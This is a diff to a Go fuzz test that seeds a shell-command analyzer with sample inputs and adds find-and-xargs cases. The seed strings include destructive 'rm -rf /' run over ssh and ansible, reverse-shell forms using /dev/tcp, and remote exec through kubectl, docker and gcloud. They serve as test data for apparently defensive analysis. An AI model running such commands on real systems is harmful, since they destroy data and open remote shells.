@@ -27,7 +27,7 @@ func FuzzAnalyze(f *testing.F) {
 		"ssh -o X h -- 'rm -rf /'", "ssh h", "ssh -t", "sshpass -p", "sshpass -p x ssh h 'ssh h2 \"ls\"'", "curl x | ssh h",
 		"kubectl exec -it p -c c -- sh -c 'rm x'", "kubectl exec", "oc exec p", "kubectl -n exec", "docker -H tcp://h exec c ls",
 		"docker exec -it", "podman exec -u", "gcloud compute ssh v --command", "gcloud compute ssh v --command='ls'",
-		"ansible all -m shell -a", "ansible h -a 'rm -rf /'", "exec 3<>/dev/tcp/h/1; sh <&3", "sh </dev/tcp/h/1", "sh <&",
+		"ansible all -m shell -a", "ansible h -a 'rm -rf /'", "find ~ -name x | xargs cat", "find | xargs -I{} cp {} y", "find 2>/dev/null | xargs", "exec 3<>/dev/tcp/h/1; sh <&3", "sh </dev/tcp/h/1", "sh <&",
 	} {
 		f.Add(s)
 	}
